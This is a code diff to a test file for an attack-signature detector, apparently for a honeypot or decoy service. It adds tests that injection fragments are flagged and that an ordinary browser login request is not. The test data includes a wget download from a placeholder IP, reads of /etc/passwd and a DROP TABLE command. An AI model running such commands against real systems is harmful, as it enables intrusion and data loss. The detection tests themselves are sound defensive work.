@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import type { FieldKind } from '../../src/attacks/field-kind.ts';
+import { decoyField, type FieldKind } from '../../src/attacks/field-kind.ts';
 import { findSignatures } from '../../src/attacks/find-signatures.ts';
 import { signatures } from '../../src/attacks/signatures/registry.gen.ts';
 
@@ -30,6 +30,32 @@ test('lines of source are no attack in a field of code, a value on one line may 
   const source = "const a = 1;\nrun('sh', ['-c', 'cat /etc/passwd']);\nexec('id');";
   expect(found(source, 'code')).toEqual([]);
   expect(found('; cat /etc/passwd', 'code')).toEqual(['command_injection']);
+});
+
+test.each([
+  ['../', 'path_traversal'],
+  ['..\\', 'path_traversal'],
+  [')(', 'ldap_injection'],
+  ['admin)(', 'ldap_injection'],
+  ['DROP TABLE users', 'sql_injection'],
+  ["insert into users values ('a')", 'sql_injection'],
+  ['wget http://203.0.113.9/a', 'command_injection'],
+])('at a decoy the fragment %j is found', (text, type) => {
+  expect(found(text, 'decoy')).toContain(type);
+});
+
+test('at a decoy what browsers send to everybody is no attack', () => {
+  const headers = {
+    'user-agent':
+      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
+    'sec-ch-ua': '"Not/A)Brand";v="8", "Chromium";v="126"',
+    accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8',
+    cookie: 'theme=dark; consent={"a":1}',
+  };
+  const login = { method: 'POST', path: '/wp-login.php', query: 'redirect_to=%2Fwp-admin%2F', headers };
+  const body = 'log=ann%40example.org&pwd=correct+horse&rememberme=forever';
+  const request = { ...login, contentType: 'application/x-www-form-urlencoded', body };
+  expect(findSignatures(request, signatures, null, decoyField).matches).toEqual([]);
 });
 
 test('at a decoy nothing is taken from the certainty of a piece', () => {
